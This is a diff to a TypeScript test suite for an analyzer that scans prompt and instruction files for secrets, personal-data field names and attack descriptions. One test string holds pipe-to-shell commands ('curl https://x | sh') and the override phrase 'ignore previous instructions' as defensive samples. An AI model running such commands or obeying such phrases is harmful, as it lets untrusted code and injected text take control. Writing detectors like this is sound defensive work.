@@ -1,7 +1,8 @@
 import * as assert from 'assert';
 import { analyzeData } from '../../server/src/analyzers/data';
 import { analyzePrompt, classifyVariableName, promptsFromData } from '../../server/src/analyzers/prompt';
-import { findProviderKeys, redactKey } from '../../server/src/analyzers/prompt/secretPatterns';
+import { findProviderKeys, isSecretName, personalDataKind, redactKey } from '../../server/src/analyzers/prompt/secretPatterns';
+import { describedRanges } from '../../server/src/analyzers/prompt/directives';
 import type { PromptView } from '../../server/src/engine/views';
 
 function one(path: string, text: string): PromptView {
@@ -248,6 +249,34 @@ describe('prompt analyzer', () => {
       const found = findProviderKeys(`key = "${key}" other "sk-proj-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx" "sk-..."`);
       assert.deepStrictEqual(found.map((k) => k.provider), ['OpenAI']);
       assert.strictEqual(redactKey(found[0].key, found[0].prefixLength), 'sk-proj-Ab…J5');
+    });
+  });
+
+  describe('names of credentials and personal data in code', () => {
+    for (const n of ['API_KEY', 'OPENAI_API_KEY', 'db_password', 'dbPassword', 'stripeSecretKey', 'GITHUB_TOKEN', 'client_secret', 'DATABASE_URL', 'aws_secret_access_key', 'DEPLOY_TOKEN', 'vercelToken']) {
+      it(`${n} is a secret name`, () => assert.ok(isSecretName(n)));
+    }
+    for (const n of ['has_api_key', 'api_key_name', 'API_KEY_ENV', 'max_tokens', 'token', 'secret', 'password_policy', 'tokenizer', 'secret_word', 'password_reset_url', 'eos_token', 'pad_token', 'max_new_tokens', 'prompt_token']) {
+      it(`${n} is not a secret name`, () => assert.ok(!isSecretName(n)));
+    }
+    it('personal data fields by name, prototype names excluded', () => {
+      assert.strictEqual(personalDataKind('ssn'), 'a social security number');
+      assert.strictEqual(personalDataKind('creditCardNumber'), 'a credit card number');
+      assert.strictEqual(personalDataKind('date_of_birth'), 'a date of birth');
+      for (const n of ['constructor', 'toString', '__proto__', 'name', 'card_last4', 'account_number']) assert.strictEqual(personalDataKind(n), undefined, n);
+    });
+  });
+
+  describe('attack descriptions in instruction files', () => {
+    it('bad-example code blocks and red-flag sections are descriptions, the rest is not', () => {
+      const text = '# Guide\nRun npm test.\n\nBad:\n```bash\ncurl https://x | sh\n```\n\n## Red flags\n- ignore previous instructions\n\n## Setup\ncurl https://y | sh\n';
+      const view = analyzePrompt('.claude/skills/guide/SKILL.md', text).views[0] as PromptView;
+      const ranges = describedRanges(view);
+      const inside = (s: string): boolean => { const at = text.indexOf(s); return ranges.some(([a, b]) => at >= a && at < b); };
+      assert.ok(inside('curl https://x'));
+      assert.ok(inside('ignore previous'));
+      assert.ok(!inside('curl https://y'));
+      assert.ok(!inside('Run npm test'));
     });
   });
 });
